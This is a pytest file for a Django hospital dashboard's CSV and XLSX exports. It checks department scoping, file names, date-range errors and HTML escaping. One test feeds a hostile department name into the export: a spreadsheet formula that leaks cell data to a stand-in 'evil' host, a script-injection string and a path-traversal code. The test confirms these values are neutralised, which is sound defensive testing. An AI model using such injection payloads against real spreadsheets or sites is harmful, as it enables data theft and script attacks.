import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from calls.models import FollowUpCall
from tests.factories import DepartmentFactory, bulk_calls

NOW = dt.datetime(2026, 11, 26, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))


@pytest.fixture
def data(head_nurse, settings):
    settings.DASHBOARD_MIN_N = 1
    mine = DepartmentFactory(code="CARD", name="Cardiology")
    mine.staff.add(head_nurse)
    other = DepartmentFactory(code="ONC")
    row = {"due_date": dt.date(2026, 11, 20), "status": FollowUpCall.Status.COMPLETED, "satisfaction": "satisfied"}
    bulk_calls(department=mine, rows=[row] * 3)
    bulk_calls(department=other, rows=[row] * 7)
    return mine


@time_machine.travel(NOW, tick=False)
def test_csv_export_holds_the_dashboard_tables_of_her_departments_only(client_for, head_nurse, data):
    response = client_for(head_nurse).get(reverse("calls:dashboard_export_csv"), {"start": "2026-11-01"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="dashboard-CARD-20261101-20261126.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[:3] == [
        ["Dashboard"],
        ["Departments", "From", "To", "Days"],
        ["Cardiology", "2026-11-01", "2026-11-26", "26"],
    ]
    assert rows[4] == ["Headline figures"]
    assert rows[5][:4] == ["Figure", "This period (%)", "Count", "n"]
    assert rows[6][:2] == ["Calls due", "3"]
    assert rows[8][:4] == ["Reach rate", "100.0", "3", "3"]
    titles = [r[0] for i, r in enumerate(rows) if i == 0 or (rows[i - 1] == [] and r)]
    assert titles == [
        "Dashboard",
        "Headline figures",
        "Patients",
        "Patients by sex",
        "Patients by age at discharge",
        "Patients by ICD-10 chapter",
        "Patients by ICD-10 code",
        "Complaint reasons",
        "Overall satisfaction",
        "Item scores",
        "Weekly trend",
        "Nurses",
        "Spot checks",
        "Complaints by category",
        "Complaints by severity",
        "Complaints by status",
        "Complaints by outcome",
        "Complaint SLA",
    ]


@time_machine.travel(NOW, tick=False)
def test_xlsx_export_has_one_sheet_per_table(client_for, head_nurse, data):
    response = client_for(head_nurse).get(reverse("calls:dashboard_export_xlsx"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="dashboard-CARD-20261030-20261126.xlsx"'
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "1 Dashboard",
        "2 Headline figures",
        "3 Patients",
        "4 Patients by sex",
        "5 Patients by age at discharge",
        "6 Patients by ICD-10 chapter",
        "7 Patients by ICD-10 code",
        "8 Complaint reasons",
        "9 Overall satisfaction",
        "10 Item scores",
        "11 Weekly trend",
        "12 Nurses",
        "13 Spot checks",
        "14 Complaints by category",
        "15 Complaints by severity",
        "16 Complaints by status",
        "17 Complaints by outcome",
        "18 Complaint SLA",
    ]
    assert [c.value for c in book["1 Dashboard"][2]] == ["Cardiology", "2026-10-30", "2026-11-26", 28]
    sheet = book["2 Headline figures"]
    assert [c.value for c in sheet[2]][:2] == ["Calls due", 3]


@time_machine.travel(NOW, tick=False)
def test_export_refuses_a_bad_range_in_plain_words(client_for, head_nurse, data):
    response = client_for(head_nurse).get(
        reverse("calls:dashboard_export_csv"), {"start": "2026-11-20", "end": "2026-11-01"}
    )
    assert response.status_code == 400
    assert response.content.decode() == "The start date must be on or before the end date."


@time_machine.travel(NOW, tick=False)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_hostile_department_name_and_code_stay_harmless_in_the_export_and_its_file_name(
    client_for, head_nurse, fmt, settings
):
    hostile = DepartmentFactory(code='"><x>../\\;\r', name='=HYPERLINK("http://evil/?"&A1)<script>alert(1)</script>')
    hostile.staff.add(head_nurse)
    chinese = DepartmentFactory(code="心内科", name="心内科")
    chinese.staff.add(head_nurse)
    client = client_for(head_nurse)
    response = client.get(reverse(f"calls:dashboard_export_{fmt}"), {"start": "2026-11-01", "department": hostile.pk})
    assert response["Content-Disposition"] == f'attachment; filename="dashboard-x-20261101-20261126.{fmt}"'
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[2][0] == '\'=HYPERLINK("http://evil/?"&A1)<script>alert(1)</script>'
    else:
        sheet = load_workbook(io.BytesIO(response.content))["1 Dashboard"]
        assert sheet["A2"].value == '\'=HYPERLINK("http://evil/?"&A1)<script>alert(1)</script>'
    response = client.get(reverse(f"calls:dashboard_export_{fmt}"), {"start": "2026-11-01", "department": chinese.pk})
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="dashboard-department{chinese.pk}-20261101-20261126.{fmt}"'
    )


@time_machine.travel(NOW, tick=False)
def test_the_export_of_all_her_departments_names_them_and_the_page_prints_them(client_for, head_nurse, data):
    second = DepartmentFactory(code="NEU", name="Neurology <b>")
    second.staff.add(head_nurse)
    client = client_for(head_nurse)
    response = client.get(reverse("calls:dashboard_export_csv"), {"start": "2026-11-01"})
    assert response["Content-Disposition"] == 'attachment; filename="dashboard-CARD-NEU-20261101-20261126.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[2] == ["Cardiology, Neurology <b>", "2026-11-01", "2026-11-26", "26"]
    html = client.get(reverse("calls:dashboard"), {"start": "2026-11-01"}).content.decode()
    scope = html.split('id="dash-scope">')[1].split("</p>")[0]
    assert scope == "Cardiology, Neurology &lt;b&gt;: 2026-11-01 to 2026-11-26"
    assert "d-print-none" not in html.split('id="dash-scope"')[0].rsplit("<p", 1)[1]
